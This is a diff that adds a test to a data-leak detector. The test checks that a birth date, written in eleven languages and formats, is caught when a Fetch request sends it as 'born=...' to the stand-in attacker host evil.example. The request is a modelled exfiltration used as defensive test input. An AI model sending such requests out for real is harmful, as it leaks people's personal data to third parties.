@@ -83,3 +83,22 @@ it('finds one behind any number of words that say nothing', () => {
     { numRuns: 20 },
   );
 });
+
+it.each([
+  '12. März 1990',
+  '12 mars 1990',
+  '12 de março de 1990',
+  '12. března 1990',
+  '12 marca 1990',
+  'March 12th, 1990',
+  '12 марта 1990 г.',
+  '1990年3月12日',
+  '1990년 3월 12일',
+  '12. maaliskuuta 1990',
+  'Mar-12-1990',
+])('finds a date that is written otherwise: %s', (written) => {
+  const judge = judgeFill();
+  judge.setOrigin(site);
+  judge.addAnswer('1990-03-12', true);
+  expect(judge.isHeld(request('https://evil.example/c', `born=${written}`, 'Fetch'))).toBe(true);
+});
